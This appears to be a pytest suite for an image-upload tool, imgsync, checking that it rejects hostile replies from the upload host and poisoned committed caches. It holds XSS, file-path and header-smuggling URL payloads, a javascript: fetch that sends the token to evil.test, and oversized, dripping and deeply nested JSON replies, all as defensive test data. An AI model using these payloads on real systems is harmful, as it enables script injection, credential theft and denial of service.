"""Findings 3, 4, 5 and 8 (JSON nesting): the host's replies and the committed cache are input.

The attacker is the host itself here (LSKY_BASE_URL points at it): what it answers, and
what a pull request commits as the cache, must never put a hostile URL into the Markdown
or the cache, fill the memory or hold the run.
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from imgsync.testing.attacker import Attacker, drip, endless, head, huge, lsky_success
from tests.hostile.conftest import (
    assert_no_secret_reached,
    run_imgsync,
    run_measured,
)
from tests.images import png_bytes

HOST_TOKEN = "1|theHostsOwnTokenWhichTheAttackerAsHostMayGet00"
PAGE = b'# Post\n\n![plot](img/a.png)\n\n<img src="img/a.png">\n'
PEAK_RSS_LIMIT = 100 * 1024 * 1024
NESTED = b"[" * 200_000 + b"]" * 200_000

HOSTILE_URLS = {
    "javascript": "javascript:alert(1)",
    "data": "data:image/png;base64,iVBORw0KGgo=",
    "file": "file:///etc/passwd",
    "relative": "../../../etc/passwd",
    "scheme_relative": "//evil.test/a.png",
    "newline": "https://img.test/a.png\n![x](javascript:alert(1))",
    "space": "https://img.test/a b.png",
    "quote": 'https://img.test/a.png" onerror="alert(1)',
    "angle": "https://img.test/<script>.png",
    "bidi": "https://img.test/a\u202egnp.exe",
    "userinfo": "https://user:pw@evil.test/a.png",
    "no_host": "https:///a.png",
}


def as_host(attacker: Attacker) -> dict[str, str]:
    return {"LSKY_BASE_URL": attacker.origin + "/api/v1", "LSKY_TOKEN": HOST_TOKEN}


def a_post(project: Path) -> tuple[Path, bytes]:
    (project / "img").mkdir()
    image = png_bytes(2, 2)
    (project / "img" / "a.png").write_bytes(image)
    (project / "post.md").write_bytes(PAGE)
    return project / "post.md", image


@pytest.mark.parametrize("url", HOSTILE_URLS.values(), ids=list(HOSTILE_URLS))
def test_a_hostile_url_from_the_host_fails_the_image_and_is_written_nowhere(
    attacker: Attacker, project: Path, url: str
) -> None:
    post, _ = a_post(project)
    attacker.answer = lsky_success(url)

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 3, done.stderr
    assert "the host sent an unusable URL" in done.stderr
    assert "\n![x]" not in done.stderr and "\u202e" not in done.stderr  # quoted escaped
    assert post.read_bytes() == PAGE
    cache = project / ".imgsync-cache.json"
    assert not cache.exists() or url not in cache.read_text(encoding="utf-8")
    assert_no_secret_reached(attacker)


def test_a_hostile_url_echoing_the_token_is_quoted_redacted(
    attacker: Attacker, project: Path
) -> None:
    a_post(project)
    attacker.answer = lsky_success(f"javascript:fetch('//evil.test/?{HOST_TOKEN}')")

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 3 and "unusable URL" in done.stderr, done.stderr
    assert HOST_TOKEN.partition("|")[2] not in done.stderr and "***" in done.stderr


@pytest.mark.parametrize(
    "answer", [huge(300 * 1024 * 1024), endless()], ids=["300MB_reply", "endless_stream"]
)
def test_a_reply_too_large_fails_at_once_with_memory_flat(
    attacker: Attacker, project: Path, answer: object
) -> None:
    post, _ = a_post(project)
    attacker.answer = answer  # type: ignore[assignment]

    status, stderr, peak, seconds = run_measured(project, ".", env=as_host(attacker))

    print(f"peak RSS {peak / 2**20:.1f} MiB in {seconds:.1f}s")
    assert status == 3, stderr
    assert "the host's reply is too large" in stderr
    assert peak < PEAK_RSS_LIMIT, f"peak RSS {peak / 2**20:.0f} MiB"
    assert attacker.requests == 1  # a broken or hostile host is not asked again
    assert post.read_bytes() == PAGE


def test_a_dripping_reply_fails_within_the_deadline(attacker: Attacker, project: Path) -> None:
    post, _ = a_post(project)
    # The deadline is the read timeout, for the reply as a whole; one attempt, to time it.
    (project / "imgsync.toml").write_text("read_timeout = 8\nmax_attempts = 1\n")
    attacker.answer = drip(5)

    status, stderr, peak, seconds = run_measured(project, ".", env=as_host(attacker))

    print(f"drip failed after {seconds:.1f}s (deadline 8s, a byte every 5s)")
    assert status == 3, stderr
    assert "not whole after 8s" in stderr
    # The watchdog cuts the connection at 8 s, between two bytes (at 5 s and 10 s).
    assert seconds < 8 + 4, seconds
    assert peak < PEAK_RSS_LIMIT and post.read_bytes() == PAGE


def test_a_reply_nested_deep_within_the_cap_is_not_a_traceback(
    attacker: Attacker, project: Path
) -> None:
    post, _ = a_post(project)
    nested = b"[" * 500_000 + b"]" * 500_000

    def answer(request: bytes, stop: threading.Event) -> Iterator[bytes]:
        yield head(200, len(nested)) + nested

    attacker.answer = answer

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 3 and "not from the Lsky API" in done.stderr, done.stderr
    assert post.read_bytes() == PAGE


def committed_cache(project: Path, attacker: Attacker, url: str, image: bytes) -> Path:
    md5, sha256 = hashlib.md5(image).hexdigest(), hashlib.sha256(image).hexdigest()
    entry = {"url": url, "handle": {}, "size": len(image), "sha256": sha256}
    entry |= {"uploaded_at": "2026-11-23T11:30:05Z", "source": "img/a.png"}
    document = {"uploads": {f"lsky {attacker.origin}/api/v1": {md5: entry}}, "version": 1}
    cache = project / ".imgsync-cache.json"
    cache.write_text(json.dumps(document, indent=2) + "\n")
    return cache


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "../../../etc/passwd", "https://img.test/a.png\n<script>"],
    ids=["javascript", "relative", "newline"],
)
def test_a_committed_cache_with_a_hostile_url_is_refused_as_it_is(
    attacker: Attacker, project: Path, url: str
) -> None:
    post, image = a_post(project)
    cache = committed_cache(project, attacker, url, image)
    before = cache.read_bytes()

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 2, done.stderr
    assert ".imgsync-cache.json" in done.stderr and "can't be used" in done.stderr
    assert hashlib.md5(image).hexdigest() in done.stderr  # the entry, by its key
    assert cache.read_bytes() == before and post.read_bytes() == PAGE
    assert attacker.requests == 0


def test_a_legacy_cache_with_a_hostile_url_is_refused(attacker: Attacker, project: Path) -> None:
    post, image = a_post(project)
    legacy = project / ".lsky_upload_cache.json"
    sha256 = hashlib.sha256(image).hexdigest()
    entries = {sha256: {"url": "javascript:alert(1)", "path": "img/a.png"}}
    legacy.write_text(json.dumps({"version": 1, "entries": entries}))
    before = legacy.read_bytes()

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 2 and ".lsky_upload_cache.json" in done.stderr, done.stderr
    assert sha256 in done.stderr and "javascript:" in done.stderr
    assert legacy.read_bytes() == before and post.read_bytes() == PAGE


def test_a_committed_cache_pointing_at_another_site_is_used_but_told(
    attacker: Attacker, project: Path
) -> None:
    post, image = a_post(project)
    committed_cache(project, attacker, "https://evil.test/pixel.png", image)

    done = run_imgsync(project, ".", env=as_host(attacker))

    # A https:// URL passes every check; a CDN would look the same, so it is said, not refused.
    assert done.returncode == 0, done.stderr
    assert "point at evil.test, not at the host's site (127.0.0.1)" in done.stderr
    assert attacker.requests == 0
    assert b"https://evil.test/pixel.png" in post.read_bytes()


def test_duplicate_keys_make_the_cache_invalid(attacker: Attacker, project: Path) -> None:
    post, image = a_post(project)
    cache = committed_cache(project, attacker, "https://img.test/a.png", image)
    md5 = hashlib.md5(image).hexdigest()
    text = cache.read_text()
    # The same MD5 twice: a reviewer sees the first entry, JSON keeps the second.
    doubled = text.replace(f'"{md5}": {{', f'"{md5}": {{"url": "x"}},\n      "{md5}": {{', 1)
    cache.write_text(doubled)

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 2, done.stderr
    assert f"has the key '{md5}' twice" in done.stderr
    assert cache.read_text() == doubled and post.read_bytes() == PAGE


def test_a_cache_nested_200000_deep_is_a_cache_error(attacker: Attacker, project: Path) -> None:
    post, _ = a_post(project)
    cache = project / ".imgsync-cache.json"
    cache.write_bytes(b'{"version": 1, "uploads": ' + NESTED + b"}")

    done = run_imgsync(project, ".", env=as_host(attacker))

    assert done.returncode == 2, done.stderr
    assert "nested too deeply" in done.stderr and ".imgsync-cache.json" in done.stderr
    assert post.read_bytes() == PAGE


def test_stamps_nested_200000_deep_are_discarded_and_rebuilt(project: Path) -> None:
    (project / "clean.md").write_text("# nothing local here\n")
    stamps = project / ".imgsync" / "stamps.json"
    stamps.parent.mkdir()
    stamps.write_bytes(NESTED)

    done = run_imgsync(project, "check", ".")

    assert done.returncode == 0, done.stderr
    [warning] = [line for line in done.stderr.splitlines() if "stamps.json" in line]
    assert "nested too deeply" in warning and "rebuilt" in warning
    assert isinstance(json.loads(stamps.read_bytes()), dict)
